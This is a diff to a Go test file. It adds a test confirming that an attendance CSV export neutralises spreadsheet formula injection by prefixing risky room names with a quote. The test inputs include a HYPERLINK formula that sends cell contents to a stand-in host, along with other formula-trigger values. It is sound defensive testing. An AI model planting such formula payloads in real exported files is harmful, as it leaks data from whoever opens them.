@@ -112,3 +112,22 @@ func TestClockFormats(t *testing.T) {
 		t.Errorf("sheetTime in the meeting's zone = %q", got)
 	}
 }
+
+// TestAttendanceFormulas: names from the meeting file that a spreadsheet
+// would run as formulas are written as text.
+func TestAttendanceFormulas(t *testing.T) {
+	m := testMeeting()
+	m.Rooms = append(m.Rooms, recording.Room{ID: "c", Kind: "district"}, recording.Room{ID: "d", Kind: "district"})
+	m.Rooms[0].Name = `=HYPERLINK("http://x.example/?"&A1,"click")`
+	m.Rooms[0].NameHi = "+1"
+	m.Rooms[1].Name = "@SUM(A1)"
+	m.Rooms[1].Location = "-2+3"
+	m.Rooms[2].Name = "\t=1+1"
+	m.Rooms[3].Name = "Dumka - Jama block" // a dash inside is fine
+	csv := string(attendanceCSV(Summarize(m, at("13:58:00"), at("15:00:00"), nil)))
+	for _, want := range []string{`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`, ",'+1,", ",'@SUM(A1),", ",'-2+3,", "'\t=1+1", ",Dumka - Jama block,"} {
+		if !strings.Contains(csv, want) {
+			t.Errorf("attendance.csv lacks %q:\n%s", want, csv)
+		}
+	}
+}
